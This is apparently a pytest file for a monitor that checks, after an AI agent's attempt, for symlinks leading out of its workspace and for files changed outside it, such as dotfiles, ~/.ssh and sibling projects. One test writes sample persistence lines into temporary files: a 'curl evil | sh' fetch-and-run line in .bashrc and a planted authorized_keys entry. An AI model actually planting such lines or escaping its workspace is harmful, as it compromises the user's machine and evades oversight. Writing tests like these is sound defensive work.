"""The after-attempt check (`overseer.workspace.outside`) on real directories: links out, files changed outside.

(It tests a workspace module; it lives here until it moves to tests/workspace/test_outside.py.)
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from overseer.workspace.outside import OutsideFile, OutsideWatch, link_target_outside, links_out


@pytest.fixture
def home(tmp_path: Path) -> Path:
    path = tmp_path / "home"
    (path / ".ssh").mkdir(parents=True)
    (path / ".bashrc").write_text("# rc\n")
    return path


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    path = tmp_path / "projects" / "app"
    path.mkdir(parents=True)
    (path / "a.py").write_text("x = 1\n")
    (tmp_path / "projects" / "other").mkdir()
    (tmp_path / "projects" / "other" / "notes.txt").write_text("mine\n")
    return path


def test_a_link_out_of_the_workspace_is_found_and_one_inside_is_not(workspace: Path, home: Path) -> None:
    (workspace / "out").symlink_to(home / ".ssh")
    (workspace / "dangling").symlink_to(home / "nothing-yet")
    (workspace / "relative").symlink_to("../other/notes.txt")
    (workspace / "inside").symlink_to("a.py")
    found = links_out(workspace, ["out", "dangling", "relative", "inside", "a.py", "missing"])
    assert {link.path: link.target for link in found} == {
        "out": str((home / ".ssh").resolve()),
        "dangling": str((home / "nothing-yet").resolve()),
        "relative": str((workspace.parent / "other" / "notes.txt").resolve()),
    }
    assert link_target_outside(workspace, workspace / "inside") is None


def test_a_virtualenvs_interpreter_link_is_not_an_escape(workspace: Path) -> None:
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(workspace / ".venv")], check=True)
    watch = OutsideWatch.start(workspace, workspace, watch_files=False)
    assert links_out(workspace, [".venv/bin/python"]) == []
    assert watch.changes().links == ()


def test_links_made_during_the_attempt_are_reported_and_older_ones_are_not(workspace: Path, home: Path) -> None:
    (workspace / "old").symlink_to(home)
    watch = OutsideWatch.start(workspace, home, watch_files=False)
    (workspace / "build").mkdir()
    (workspace / "build" / "rc").symlink_to(home / ".bashrc")  # in a directory git may ignore: still seen
    (workspace / ".git").mkdir()
    (workspace / ".git" / "x").symlink_to(home)  # git's own directory is not the agent's work
    [link] = watch.changes().links
    assert (link.path, link.target) == ("build/rc", str((home / ".bashrc").resolve()))


def test_files_changed_under_home_and_beside_the_workspace_are_found(workspace: Path, home: Path) -> None:
    watch = OutsideWatch.start(workspace, home)
    (home / ".bashrc").write_text("# rc\ncurl evil | sh\n")
    (home / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA evil\n")
    (workspace.parent / "other" / "notes.txt").unlink()
    (workspace / "a.py").write_text("x = 2\n")  # inside: the checkpoints' business, not this check's
    changes = watch.changes()
    assert set(changes.files) == {
        OutsideFile((home / ".bashrc").resolve(), "modified"),
        OutsideFile((home / ".ssh" / "authorized_keys").resolve(), "created"),
        OutsideFile((workspace.parent / "other" / "notes.txt").resolve(), "deleted"),
    }
    assert not changes.clean and changes.truncated == ()


def test_caches_and_the_agents_own_state_are_not_changes(workspace: Path, home: Path, tmp_path: Path) -> None:
    sessions = workspace.parent / "claude-config"
    sessions.mkdir()
    watch = OutsideWatch.start(workspace, home, ignore=[sessions])
    (home / ".cache" / "pip").mkdir(parents=True)
    (home / ".cache" / "pip" / "wheel").write_text("w")
    (sessions / "session.jsonl").write_text("{}\n")
    assert watch.changes().files == ()


def test_without_the_file_walk_only_links_are_checked(workspace: Path, home: Path) -> None:
    watch = OutsideWatch.start(workspace, home, watch_files=False)
    (home / ".bashrc").write_text("changed\n")
    assert watch.changes().clean


def test_the_walk_stops_at_its_budget_and_says_so(workspace: Path, home: Path) -> None:
    deep = home / "a" / "b"
    deep.mkdir(parents=True)
    for index in range(30):
        (deep / f"f{index}").write_text("x")
    watch = OutsideWatch.start(workspace, home, budget=8)
    (home / ".bashrc").write_text("changed\n")  # shallow: inside the budget
    (deep / "f0").write_text("changed")  # deep: past it
    changes = watch.changes()
    assert home.resolve() in changes.truncated
    assert OutsideFile((home / ".bashrc").resolve(), "modified") in changes.files
    assert all(change.path != (deep / "f0").resolve() for change in changes.files)


def test_a_directory_listed_only_in_part_is_reported_when_its_entries_change(workspace: Path, home: Path) -> None:
    crowded = home / "crowded"
    crowded.mkdir()
    for index in range(20):
        (crowded / f"f{index}").write_text("x")
    before = os.stat(crowded).st_mtime_ns
    watch = OutsideWatch.start(workspace, home, budget=10)
    (crowded / "new").write_text("planted")
    os.utime(crowded, ns=(before + 10**9, before + 10**9))  # some file systems round mtimes: move it for sure
    assert OutsideFile(crowded.resolve(), "modified") in watch.changes().files


def test_the_check_reports_its_own_cost(workspace: Path, home: Path) -> None:
    changes = OutsideWatch.start(workspace, home).changes()
    assert 0 < changes.seconds < 5
